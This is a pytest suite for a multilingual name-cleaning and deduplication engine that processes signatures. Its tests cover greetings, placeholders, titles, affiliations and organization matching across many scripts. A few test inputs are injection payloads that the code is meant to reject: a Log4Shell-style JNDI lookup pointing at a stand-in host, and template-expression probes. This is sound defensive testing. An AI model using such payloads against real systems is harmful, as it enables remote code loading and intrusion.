"""The names engine on names and junk from many languages and scripts: table-driven rules."""

from __future__ import annotations

import pytest

from sync.dedupe.matching import Candidate, MatchIndex, cross_keys
from sync.names import affiliation_key, make_watchlist, read_name
from sync.names.cleaning import name_keys

NO_WATCH = make_watchlist(())


@pytest.mark.parametrize(
    "typed",
    [
        "Kiitos",  # Finnish "thanks"
        "Tack för att ni gör detta",  # Swedish
        "Cảm ơn các bạn rất nhiều",  # Vietnamese
        "ありがとうございます",  # Japanese, no spaces
        "감사합니다",  # Korean
        "支持你们的工作",  # Chinese, no spaces
        "תודה רבה",  # Hebrew
        "Ευχαριστώ πολύ",  # Greek
        "Terima kasih",  # Indonesian
    ],
)
def test_comments_in_any_wordfreq_language_are_rejected(typed: str) -> None:
    assert read_name(typed, watchlist=NO_WATCH).decision == "reject", typed


@pytest.mark.parametrize(
    "typed",
    ["Anonym", "Nimetön", "Névtelen", "Аноним", "ناشناس", "匿名", "익명", "Ẩn danh", "ไม่ระบุชื่อ", "Anònim"],
)
def test_anonymous_in_many_languages_is_rejected(typed: str) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert reading.decision == "reject", typed
    assert reading.reject == "placeholder or comment, not a name"


@pytest.mark.parametrize(
    "typed", ["Vasya Pupkin", "Gipsz Jakab", "张三", "홍길동", "Matti Meikäläinen", "ישראל ישראלי"]
)
def test_local_placeholder_names_are_rejected(typed: str) -> None:
    assert read_name(typed, watchlist=NO_WATCH).decision == "reject", typed


@pytest.mark.parametrize(
    "typed",
    [
        "Nguyễn Thị Mai",  # every syllable is also a Vietnamese word
        "Nagy Katalin",  # "nagy" is Hungarian for "big"
        "प्रिया शर्मा",
        "王晓明",
        "佐藤健一",
        "김지영",
        "מרים כהן",
        "مریم احمدی",
        "Γιώργος Παπαδόπουλος",
        "Олександр Шевченко",
        "Aino Virtanen",
    ],
)
def test_real_names_in_their_own_scripts_are_published(typed: str) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert reading.decision == "publish", (typed, reading.hold, reading.reject)


@pytest.mark.parametrize(
    "typed",
    [
        "йцукенгшщз",
        "фывапролдж",
        "ασδφγηξκλ",
        "שדגכעיחלך",
        "شسیبلاتنمک",
        "ฟหกดเ้่าสว",
        "ㅁㄴㅇㄹㅎ",
        "ㄅㄆㄇㄈㄉ",
    ],
)
def test_keyboard_mash_on_other_layouts_is_rejected(typed: str) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert reading.reject.startswith("keyboard mash"), (typed, reading.reject)


@pytest.mark.parametrize(
    "typed", ["${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "${7*7} Smith"]
)
def test_template_and_lookup_injection_is_rejected(typed: str) -> None:
    assert read_name(typed, watchlist=NO_WATCH).decision == "reject", typed


def test_one_word_in_a_script_without_a_word_list_is_held() -> None:
    # Thai writes vowels as letters of their own: its syllables cannot be counted, so one
    # unknown word waits for an editor; a listed "thanks" is rejected
    reading = read_name("ประชาธิปไตย", watchlist=NO_WATCH)
    assert reading.decision == "hold"
    assert "no word list" in reading.hold[0]
    assert read_name("ขอบคุณครับ", watchlist=NO_WATCH).decision == "reject"
    assert read_name("สมศรี วงศ์สวัสดิ์", watchlist=NO_WATCH).decision == "publish"


@pytest.mark.parametrize(
    ("typed", "name"),
    [
        ("Johan Öberg, lycka till med uppropet!", "Johan Öberg"),
        ("Lena Fischer – viel Erfolg!", "Lena Fischer"),
        ("Emma Scott - thank you for doing this", "Emma Scott"),
        ("Claire Dubois, merci pour cette lettre", "Claire Dubois"),
    ],
)
def test_a_greeting_after_the_name_is_dropped_and_the_signer_published(typed: str, name: str) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert (reading.display, reading.decision, reading.raw) == (name, "publish", typed)
    assert any(f.startswith("comment after the name dropped") for f in reading.flags)


@pytest.mark.parametrize(
    ("typed", "name", "where"),
    [
        ("Monika Płatek, pozdrawiam serdecznie", "Monika Płatek", "after"),  # lowercase after a comma
        ("Светлана Ганнушкина, с уважением", "Светлана Ганнушкина", "after"),
        ("Siân Gwenllian, cofion cynnes", "Siân Gwenllian", "after"),  # Welsh: no word list
        ("חנא סוייד, בברכה", "חנא סוייד", "after"),  # Hebrew: no case
        ("مسعود غنايم، مع التحية", "مسعود غنايم", "after"),  # the Arabic comma
        ("ზვიად კვაჭანტირაძე, მადლობა", "ზვიად კვაჭანტირაძე", "after"),  # a script without a list
        ("권미혁 감사합니다", "권미혁", "after"),  # no separator, a script written without spaces
        ("Jessica Wetterling Hälsningar!", "Jessica Wetterling", "after"),  # an exclamation
        ("Kiitos paljon, Matti Virtanen", "Matti Virtanen", "before"),
        ("terveisin Silvia Modig", "Silvia Modig", "before"),  # lowercase before a name
        ("धन्यवाद Wongdi Sherpa", "Wongdi Sherpa", "before"),  # another script before a name
    ],
)
def test_a_greeting_in_any_language_before_or_after_the_name_is_dropped(
    typed: str, name: str, where: str
) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert (reading.display, reading.decision) == (name, "publish"), (typed, reading.hold, reading.reject)
    assert any(f.startswith(f"comment {where} the name dropped") for f in reading.flags)


@pytest.mark.parametrize(
    ("typed", "name", "affiliation"),
    [
        ("Jane Roe, journalist", "Jane Roe", "journalist"),  # a title word: an affiliation, not a comment
        ("Paweł Lewandowski, Politechnika Warszawska", "Paweł Lewandowski", "Politechnika Warszawska"),
        ("García López, María José", "María José García López", ""),  # surname first
    ],
)
def test_a_capitalized_tail_is_an_affiliation_or_the_given_names(
    typed: str, name: str, affiliation: str
) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert (reading.display, reading.affiliation, reading.decision) == (name, affiliation, "publish")


@pytest.mark.parametrize("typed", ["Diolch yn fawr am hyn!", "जय हिंद! पूरा समर्थन", "Kia ora koutou, tautoko!"])
def test_a_comment_is_not_split_into_a_name_and_a_greeting(typed: str) -> None:
    assert read_name(typed, watchlist=NO_WATCH).decision == "reject", typed


@pytest.mark.parametrize("typed", ["J.K.", "A. B.", "j k"])
def test_initials_alone_are_rejected(typed: str) -> None:
    assert read_name(typed, watchlist=NO_WATCH).reject == "initials only, not a name"


@pytest.mark.parametrize(
    ("affiliation", "why"),
    [
        ("I agree!!! good luck", "a comment, not an affiliation"),
        ("qwertyuiop", "keyboard mash"),
        ("<b>www</b>", "markup or template code"),
        ("${jndi:ldap://x.example/a}", "markup or template code"),
        ("fuck this", "profanity"),
        # the LDNOOBW lists' languages, whole words, accents as typed or not
        ("kurwa mać", "profanity"),
        ("Hijoputa", "profanity"),
        ("orospu çocuğu", "profanity"),
    ],
)
def test_a_bad_affiliation_is_dropped_with_a_flag_and_the_name_published(affiliation: str, why: str) -> None:
    reading = read_name("Sarah Collins", affiliation, watchlist=NO_WATCH)
    assert (reading.display, reading.affiliation, reading.decision) == ("Sarah Collins", "", "publish")
    assert f"affiliation dropped: {why}" in reading.flags


@pytest.mark.parametrize("typed", ["Skurwysyn", "Kurwa Mać", "Šūdas", "Scheißkerl", "Говнюк"])
def test_profanity_of_many_languages_is_never_published(typed: str) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert reading.decision != "publish", typed


@pytest.mark.parametrize("typed", ["Lena Lund", "Koko Ditlhale", "William Gable", "Hans Fick"])
def test_real_names_that_collide_with_a_bad_word_elsewhere_are_not_held(typed: str) -> None:
    assert "possible profanity" not in read_name(typed, watchlist=NO_WATCH).hold, typed


@pytest.mark.parametrize(
    ("a", "b"),
    [
        ("Digitalcourage e.V.", "Digitalcourage"),
        ("Kancelaria Nowak sp. z o.o.", "Kancelaria Nowak"),
        ("Association Framasoft", "Framasoft"),
        ("Stichting Bits of Freedom", "Bits of Freedom"),
        ("Ligue des droits humains asbl", "Ligue des droits humains"),
        ("Associazione Antigone Onlus", "Antigone"),
        ("National Union of Teachers (NUT)", "The National Union of Teachers"),
        ("Eesti Inimõiguste Keskus MTÜ", "Eesti Inimõiguste Keskus"),
    ],
)
def test_an_organization_has_one_key_across_legal_forms_and_leading_words(a: str, b: str) -> None:
    assert name_keys(a, "organization")[0] == name_keys(b, "organization")[0]


def _candidate(id: str, name: str, email: str, kind: str = "") -> Candidate:
    reading = read_name(name, "", "Organization" if kind == "organization" else "", NO_WATCH)
    return Candidate.of_reading(id, reading, (email,), (email.split("@")[0],))


def test_an_acronym_meets_its_expansion_and_is_held_for_the_editor() -> None:
    index = MatchIndex([_candidate("1", "Társaság a Szabadságjogokért (TASZ)", "tasz@tasz", "organization")])
    [match] = index.match(_candidate("2", "TASZ", "info@tasz", "organization"))
    assert (match.id, match.merge, match.hold) == ("1", False, True)


@pytest.mark.parametrize(
    ("latin", "other"),
    [
        ("David Grossman Levi", "דוד גרוסמן לוי"),
        ("Zhou Xiaoling", "周晓玲"),
        ("Dimitris Georgiou", "Δημήτρης Γεωργίου"),
    ],
)
def test_the_same_name_in_another_script_is_held_never_merged(latin: str, other: str) -> None:
    index = MatchIndex([_candidate("1", latin, "a@x")])
    matches = index.match(_candidate("2", other, "b@y"))
    assert [(m.id, m.merge, m.hold) for m in matches] == [("1", False, True)], matches
    assert cross_keys(*name_keys(latin)) and cross_keys(*name_keys(other))


def test_two_clearly_different_people_at_one_address_are_both_published_with_a_note() -> None:
    index = MatchIndex([_candidate("1", "Laura Bennett", "bennetts@home")])
    [match] = index.match(_candidate("2", "Daniel Bennett", "bennetts@home"))
    assert (match.merge, match.hold) == (False, False)
    assert "clearly different name" in match.reason
    [same] = index.match(_candidate("3", "L. Bennett", "bennetts@home"))
    assert same.merge  # an initial can be the same person: merged as before


def test_affiliation_key_still_ignores_case_and_the() -> None:
    assert affiliation_key("The University of Bath") == affiliation_key("UNIVERSITY OF BATH")


@pytest.mark.parametrize(
    ("typed", "display"),
    [
        ("prof. dr hab. Anna Wiśniewska", "Anna Wiśniewska"),
        ("mgr Tomasz Zieliński", "Tomasz Zieliński"),
        ("Univ.-Prof. Mag. Dr. Barbara Huber", "Barbara Huber"),
        ("Akademik Stefan Dimitrov", "Stefan Dimitrov"),
        ("Fr. Jean-Baptiste Martin", "Jean-Baptiste Martin"),
        ("د. علی رضایی", "علی رضایی"),
        ("이민호 박사", "이민호"),
        ("李明 教授", "李明"),
        ("Dr. Amina Haddad", "Amina Haddad"),
        ("Prof. Dr. Hans-Peter Müller", "Hans-Peter Müller"),
        ('ד"ר ענבל גבריאלי', "ענבל גבריאלי"),  # Hebrew gershayim
        ("डॉ. श्वेता पाठक", "श्वेता पाठक"),  # an abbreviation with a vowel sign
        ("ผศ.ดร.ปิยบุตร แสงกนกกุล", "ปิยบุตร แสงกนกกุล"),  # Thai titles glued to the name
        ("นางสาวกมลวรรณ ศรีสุข", "กมลวรรณ ศรีสุข"),  # Thai "Miss" glued on without a full stop
        ("นาย ปิยบุตร แสงกนกกุล", "ปิยบุตร แสงกนกกุล"),
        ("ທ້າວສົມພອນ ແກ້ວມະນີ", "ສົມພອນ ແກ້ວມະນີ"),  # Lao "Mr."
        ("PGS.TS. Hoàng Xuân Phú", "Hoàng Xuân Phú"),
        ("Prof.ssa Nadia Urbinati", "Nadia Urbinati"),
        ("др Биљана Ђорђевић", "Биљана Ђорђевић"),  # "dr" in Cyrillic letters
        ("Brown, Dr. Alice", "Alice Brown"),
        ("Md. Abdur Rahman", "Md. Abdur Rahman"),  # an abbreviated given name, not a title
        ("சு. வெங்கடேசன்", "சு. வெங்கடேசன்"),  # a South Indian initial before one name
        ("ಕೆ. ಮರುಳಸಿದ್ದಪ್ಪ", "ಕೆ. ಮರುಳಸಿದ್ದಪ್ಪ"),
        ("मा. कमला पन्त", "कमला पन्त"),  # one letter before a full name: a title (Nepali "Hon.")
        ("ڈاکٹر پرویز ہودبھائی", "پرویز ہودبھائی"),  # "doctor" by its consonants, in Urdu
        ("Datuk Seri Anwar bin Ibrahim", "Anwar bin Ibrahim"),
        ("Sheikh Hasina Wazed", "Sheikh Hasina Wazed"),  # a name's part, not a title
        ("J.R. Smith", "J.R. Smith"),  # initials
        ("к.т.н. Ольга Петрова", "Ольга Петрова"),  # a lowercase abbreviated degree, not initials
        ("Maria Santos Cruz, Ph.D.", "Maria Santos Cruz"),  # a post-nominal after a full name
    ],
)
def test_academic_honorific_and_religious_titles_are_left_out_of_the_display(
    typed: str, display: str
) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert (reading.display, reading.decision, reading.raw) == (display, "publish", typed)


@pytest.mark.parametrize(
    ("typed", "name", "affiliation"),
    [
        ("鈴木一郎 東京大学", "鈴木一郎", "東京大学"),
        ("刘洋（北京大学）", "刘洋", "北京大学"),
        ("박서준 서울대학교", "박서준", "서울대학교"),
    ],
)
def test_a_cjk_name_with_its_institution_glued_on_is_split(typed: str, name: str, affiliation: str) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert (reading.display, reading.affiliation, reading.decision) == (name, affiliation, "publish")


def test_titles_that_tell_two_people_apart_stay() -> None:
    assert read_name("Mr. & Mrs. Okafor", watchlist=NO_WATCH).display == "Mr. & Mrs. Okafor"


def test_the_catalan_conjunction_between_surnames_is_lowercase() -> None:
    assert (
        read_name("MONTSERRAT VILA I ANTEQUERA", watchlist=NO_WATCH).display == "Montserrat Vila i Antequera"
    )
    assert read_name("JOHN I SMITH", watchlist=NO_WATCH).display == "John I Smith"


@pytest.mark.parametrize(
    "typed",
    ["Narendra Damodardas Modi", "Владимир Владимирович Путин", "Taylor Alison Swift", "Lionel Andrés Messi"],
)
def test_a_watched_name_with_a_middle_name_added_is_held(typed: str) -> None:
    reading = read_name(typed)
    assert reading.decision == "hold"
    assert reading.hold[0].startswith("watch list: looks like")


def test_a_watched_name_inside_a_longer_surname_is_not_held() -> None:
    assert read_name("Leonardo DiCaprio-Ferreira").decision == "publish"


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        ("Կազմակերպություն", "organization"),  # Armenian
        ("Shirika", "organization"),  # Swahili
        ("Järjestö", "organization"),  # Finnish
        ("تنظیم", "organization"),  # Urdu
        ("ორგანიზაცია", "organization"),  # Georgian
        ("Sefydliad", "organization"),  # Welsh
        ("Rōpū", "organization"),  # Maori
        # words with combining marks are whole words ("সংগঠন" is not "স" + "গঠন")
        ("संघटना", "organization"),  # Marathi
        ("সংগঠন", "organization"),  # Bengali
        # a listed word in another script or spelling, by its consonants in Latin letters
        ("ארגאניזאציע", "organization"),  # Yiddish, "organizatsye"
        ("Тәшкилат", "organization"),  # Azerbaijani in Cyrillic letters
        ("تنظيم", "organization"),  # with the Arabic yeh, not the Persian one
        ("Mtu binafsi", "individual"),
        ("Անհատ", "individual"),
    ],
)
def test_signing_as_an_organization_is_understood_in_more_languages(answer: str, kind: str) -> None:
    reading = read_name("ArmSoft LLC", "", answer, NO_WATCH)
    assert reading.kind == kind, answer
    if kind == "organization":
        assert reading.display == "ArmSoft LLC"


@pytest.mark.parametrize(
    ("typed", "name", "affiliation", "flag"),
    [
        ("寺田学立憲民主党", "寺田学", "立憲民主党", "affiliation split from name"),
        ("김성주국민연금공단", "김성주", "국민연금공단", "affiliation split from name"),
        ("洪宗熠立法院", "洪宗熠", "立法院", "affiliation split from name"),
        ("蔡培慧教授", "蔡培慧", "", "title left out: 教授"),
    ],
)
def test_an_institution_or_title_glued_to_a_cjk_name_is_cut_where_the_dictionary_cuts(
    typed: str, name: str, affiliation: str, flag: str
) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert (reading.display, reading.affiliation, reading.decision) == (name, affiliation, "publish")
    assert flag in reading.flags


@pytest.mark.parametrize("typed", ["王小明", "欧阳娜娜", "김지영", "佐藤健一"])
def test_a_cjk_name_alone_is_not_cut(typed: str) -> None:
    assert read_name(typed, watchlist=NO_WATCH).display == typed


@pytest.mark.parametrize(
    ("typed", "display"),
    [
        ("ZNP Związek Nauczycielstwa Polskiego", "Związek Nauczycielstwa Polskiego (ZNP)"),
        ("GEW Gewerkschaft Erziehung und Wissenschaft", "Gewerkschaft Erziehung und Wissenschaft (GEW)"),
        ("UCU QMUL Branch", "UCU QMUL Branch"),  # not the initials of what follows
        ("İHD", "İHD"),  # one word in capitals: an acronym, kept
        ("HRCP", "HRCP"),  # consonants in capitals: an acronym, not keyboard mash
    ],
)
def test_an_organizations_acronym_is_kept_and_put_after_its_name(typed: str, display: str) -> None:
    reading = read_name(typed, "", "Organization", NO_WATCH)
    assert (reading.display, reading.decision) == (display, "publish")


def _org(id: str, name: str, email: str) -> Candidate:
    reading = read_name(name, "", "Organization", NO_WATCH)
    local, _, domain = email.partition("@")
    return Candidate.of_reading(id, reading, (email,), (local,), domain_keys=(domain,))


def test_organizations_with_nothing_in_common_from_one_address_are_held() -> None:
    """One organization in two languages, or a coalition's coordinator signing its members up:
    the editor tells which."""
    index = MatchIndex([_org("1", "Academia Mayor de la Lengua Quechua", "amlq@org")])
    [match] = index.match(_org("2", "Qhapaq Qhichwa Simi Yachay Wasi", "amlq@org"))
    assert (match.merge, match.hold) == (False, True)


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("Médecins Sans Frontières", "Artsen Zonder Grenzen"),
        ("Legal and Human Rights Centre", "Kituo cha Sheria na Haki za Binadamu"),
        ("Article 19", "Data4Change.net"),
    ],
)
def test_organizations_from_two_addresses_of_one_domain_are_held(first: str, second: str) -> None:
    """One organization's staff (info@, office@) sign under its names in two languages: held
    as possible duplicates, whatever the names share; never merged."""
    index = MatchIndex([_org("1", first, "info@org")])
    [match] = index.match(_org("2", second, "office@org"))
    assert (match.id, match.merge, match.hold) == ("1", False, True)
    assert "one email domain" in match.reason
    assert index.match(_org("3", second, "office@elsewhere")) == []


def test_an_organization_spelled_otherwise_at_another_address_is_held_a_branch_is_not() -> None:
    index = MatchIndex([_org("1", "Academia de la Llingua Asturiana", "alla@ast")])
    [match] = index.match(_org("2", "Academia de la Lengua Asturiana", "secretaria@other"))
    assert (match.merge, match.hold) == (False, True)
    index = MatchIndex([_org("1", "Amnesty International", "amnesty@org")])
    [branch] = index.match(_org("2", "Amnesty International UK", "office@uk"))
    assert (branch.merge, branch.hold) == (False, False)


def test_two_organizations_from_one_email_domain_are_shown_to_the_editor() -> None:
    first = read_name("ArmSoft LLC", "", "Organization", NO_WATCH)
    index = MatchIndex(
        [Candidate.of_reading("1", first, ("info@armsoft",), ("info",), domain_keys=("armsoft",))]
    )
    other = read_name("ԱրմՍոֆթ ՍՊԸ", "", "Organization", NO_WATCH)
    [match] = index.match(
        Candidate.of_reading("2", other, ("office@armsoft",), ("office",), domain_keys=("armsoft",))
    )
    assert (match.id, match.merge, match.hold) == ("1", False, True)


@pytest.mark.parametrize(
    ("latin", "other"),
    [
        ("Zurab Tkemaladze", "ზურაბ ტყემალაძე"),  # q and k
        ("Nada Cipuševa", "Нада Ципушева"),  # c and ts
        ("Temesgen Desalegn", "ተመስገን ደሳለኝ"),  # gn and ny
        ("S. Venkatesan", "சு. வெங்கடேசன்"),  # s and c
    ],
)
def test_the_same_name_meets_itself_across_transliteration_systems(latin: str, other: str) -> None:
    assert set(cross_keys(*name_keys(latin))) & set(cross_keys(*name_keys(other)))


@pytest.mark.parametrize(
    "typed", ["Förnamn Efternamn", "Ad Soyad", "სახელი გვარი", "Test Testowy", "Hamba Allah"]
)
def test_form_labels_and_no_name_typed_as_the_name_are_rejected(typed: str) -> None:
    assert read_name(typed, watchlist=NO_WATCH).decision == "reject", typed


@pytest.mark.parametrize("typed", ["Jan Kowalski", "Mario Rossi", "Jón Jónsson", "Γιάννης Παπαδόπουλος"])
def test_a_local_placeholder_that_is_also_a_real_name_is_held(typed: str) -> None:
    reading = read_name(typed, watchlist=NO_WATCH)
    assert reading.decision == "hold", typed
    assert "placeholder name" in reading.hold[0]
